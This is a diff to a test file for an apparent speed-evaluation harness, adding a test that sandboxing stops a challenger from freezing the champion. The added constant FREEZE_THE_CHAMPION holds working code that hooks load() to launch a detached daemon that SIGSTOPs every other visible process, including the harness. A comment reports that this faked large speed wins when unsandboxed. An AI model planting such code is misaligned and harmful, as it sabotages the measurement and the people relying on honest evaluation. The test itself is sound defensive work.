@@ -242,3 +242,61 @@ def test_a_huge_int_literal_is_judged_and_logged_like_any_change(project):
     assert len(project.ledger_lines()) == 3 and "+BIG_TABLE=0xfff" in project.ledger_lines()[-1]
     run = json.loads((project.root / result["run_file"]).read_text())
     assert run["changes"]["vs_champion"]["knobs"][0]["new"].startswith("0xfff")
+
+
+# Appended to inference.py: load() leaves a daemon (its own session, double-forked: it leaves
+# the worker's process group and tree) that SIGSTOPs every process it can see but its own
+# worker, for ten minutes: the champion's worker of this run and of later runs, and the harness.
+# Unsandboxed this froze the champion: KEEP +58 % ... +180 %, and an honest comment-only
+# commit a run later got KEEP +80 %.
+FREEZE_THE_CHAMPION = '''
+
+import os as _os, subprocess as _subprocess, sys as _sys
+
+_DAEMON = r"""
+import os, signal, sys, time
+if os.fork():
+    os._exit(0)
+with open("/proc/self/comm", "w") as comm:
+    comm.write(sys.argv[1])
+spared, me = int(sys.argv[2]), os.getpid()
+for _ in range(12000):
+    for name in os.listdir("/proc"):
+        if name.isdigit() and int(name) not in (me, spared):
+            try:
+                os.kill(int(name), signal.SIGSTOP)
+            except OSError:
+                pass
+    time.sleep(0.05)
+"""
+_honest_load = load
+
+
+def load(model_path, draft_model_path=None):
+    _subprocess.Popen([_sys.executable, "-c", _DAEMON, "__MARKER__", str(_os.getpid())], start_new_session=True)
+    return _honest_load(model_path, draft_model_path)
+'''
+
+
+def test_a_challenger_cannot_freeze_the_champion_now_or_later(project, sandboxed):
+    """Class 1: the challenger's daemon cannot see or stop the champion's worker or the harness
+    (PID namespace, a user of its own), dies with its run, and an honest commit after it is
+    judged on its own speed."""
+    import uuid
+
+    from test_pipe import _marked_processes
+
+    marker = "fz" + uuid.uuid4().hex[:12]
+    project.evaluate()
+    project.inference.write_text(project.inference.read_text() + FREEZE_THE_CHAMPION.replace("__MARKER__", marker))
+    project.commit("freeze the champion")
+    proc, result = project.evaluate()
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert result["decision"] != "KEEP", result
+    assert _marked_processes(marker) == []  # the daemon went with its worker
+    rows = project.ledger_lines()
+    project.edit_inference("TOP_K = 0 ", "TOP_K = 0  # a comment\n#")
+    project.commit("comment only")
+    proc, result = project.evaluate()
+    assert proc.returncode == 0 and result["decision"] != "KEEP", result
+    assert project.ledger_lines()[:len(rows)] == rows and len(project.ledger_lines()) == len(rows) + 1
